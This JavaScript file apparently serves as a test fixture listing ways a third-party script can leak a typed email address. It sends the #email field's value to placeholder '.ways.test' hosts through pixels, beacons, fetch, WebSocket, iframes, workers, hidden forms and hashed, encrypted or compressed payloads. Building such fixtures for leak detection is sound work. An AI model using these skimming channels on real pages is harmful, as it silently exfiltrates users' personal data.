// Everything that a script of another company can do with what is typed here, each way to a host of its own.
{
  const to = (name) => `http://${name}.ways.test`;
  const bytesOf = (text) => new TextEncoder().encode(text);
  const hex = (buffer) =>
    [...new Uint8Array(buffer)].map((byte) => byte.toString(16).padStart(2, "0")).join("");
  const packed = async (text) =>
    new Response(
      new Blob([text]).stream().pipeThrough(new CompressionStream("gzip")),
    ).arrayBuffer();
  const digest = async (text) => hex(await crypto.subtle.digest("SHA-256", bytesOf(text)));
  const post = (name, body, headers = {}) =>
    fetch(`${to(name)}/c`, { method: "POST", mode: "no-cors", body, headers }).catch(() => {});

  const ways = {
    pixel: (mail) => {
      new Image().src = `${to("pixel")}/p.gif?e=${encodeURIComponent(mail)}`;
    },
    path: (mail) => {
      new Image().src = `${to("path")}/${encodeURIComponent(mail)}/p.gif`;
    },
    beacon: (mail) => navigator.sendBeacon(`${to("beacon")}/b`, JSON.stringify({ mail })),
    json: (mail) => post("json", JSON.stringify({ user: { mail } })),
    form: (mail) => post("form", new URLSearchParams({ a: "1", mail })),
    multipart: (mail) => {
      const data = new FormData();
      data.append("mail", mail);
      return post("multipart", data);
    },
    file: (mail) => {
      const data = new FormData();
      data.append("f", new File(["x"], `cv of ${mail}`));
      return post("file", data);
    },
    blob: (mail) =>
      navigator.sendBeacon(
        `${to("blob")}/b`,
        new Blob([JSON.stringify({ mail })], { type: "text/plain" }),
      ),
    bytes: (mail) => post("bytes", bytesOf(`\u0000\u0001${mail}\u0002`)),
    xhr: (mail) => {
      const request = new XMLHttpRequest();
      request.open("POST", `${to("xhr")}/x`);
      request.send(`mail=${mail}`);
    },
    header: (mail) => fetch(`${to("header")}/h`, { headers: { "x-mail": mail } }).catch(() => {}),
    socket: (mail) => {
      const socket = new WebSocket(`${to("socket").replace("http", "ws")}/s`);
      socket.onopen = () => socket.send(JSON.stringify({ mail }));
    },
    events: (mail) => {
      new EventSource(`${to("events")}/e?m=${encodeURIComponent(mail)}`);
    },
    script: (mail) => {
      const script = document.createElement("script");
      script.src = `${to("script")}/s.js?m=${encodeURIComponent(mail)}`;
      document.head.append(script);
    },
    frame: (mail) => {
      const frame = document.createElement("iframe");
      frame.src = `${to("frame")}/quiet?m=${encodeURIComponent(mail)}`;
      document.body.append(frame);
    },
    style: (mail) => {
      document.body.style.backgroundImage = `url("${to("style")}/i.png?m=${encodeURIComponent(mail)}")`;
    },
    message: (mail) =>
      document.querySelector("iframe[name=other]").contentWindow.postMessage({ mail }, "*"),
    worker: (mail) => {
      const code = `fetch("${to("worker")}/w", {method: "POST", mode: "no-cors", body: ${JSON.stringify(mail)}})`;
      new Worker(URL.createObjectURL(new Blob([code])));
    },
    base64: (mail) => post("base64", `{"d":"${btoa(mail)}"}`),
    hash: async (mail) => post("hash", JSON.stringify({ h: await digest(mail) })),
    salted: async (mail) =>
      post("salted", JSON.stringify({ h: await digest(`${mail}pepper-9f2c`) })),
    keyed: async (mail) => {
      const algorithm = { name: "HMAC", hash: "SHA-256" };
      const key = await crypto.subtle.generateKey(algorithm, false, ["sign"]);
      return post("keyed", `{"m":"${hex(await crypto.subtle.sign("HMAC", key, bytesOf(mail)))}"}`);
    },
    closed: async (mail) => {
      const iv = crypto.getRandomValues(new Uint8Array(12));
      const name = "AES-GCM";
      const key = await crypto.subtle.generateKey({ name, length: 128 }, false, ["encrypt"]);
      const made = await crypto.subtle.encrypt(
        { name, iv },
        key,
        bytesOf(JSON.stringify({ mail })),
      );
      const both = [...iv, ...new Uint8Array(made)];
      return post("closed", `{"d":"${btoa(String.fromCharCode(...both))}"}`);
    },
    gzip: async (mail) => post("gzip", await packed(JSON.stringify({ events: [{ mail }] }))),
    hidden: (mail) => {
      const form = document.createElement("form");
      form.action = `${to("hidden")}/f`;
      form.method = "post";
      form.target = "other";
      form.innerHTML = `<input type="hidden" name="mail">`;
      form.firstChild.value = mail;
      document.body.append(form);
      // After the others: it takes the frame that one of them talks to.
      setTimeout(() => form.submit(), 600);
    },
  };

  let timer;
  document.addEventListener("input", ({ target }) => {
    if (target.id !== "email") return;
    clearTimeout(timer);
    timer = setTimeout(() => {
      for (const [name, way] of Object.entries(ways)) {
        try {
          way(target.value);
        } catch (error) {
          document.title += ` ${name}: ${error}`;
        }
      }
    }, 250);
  });
}
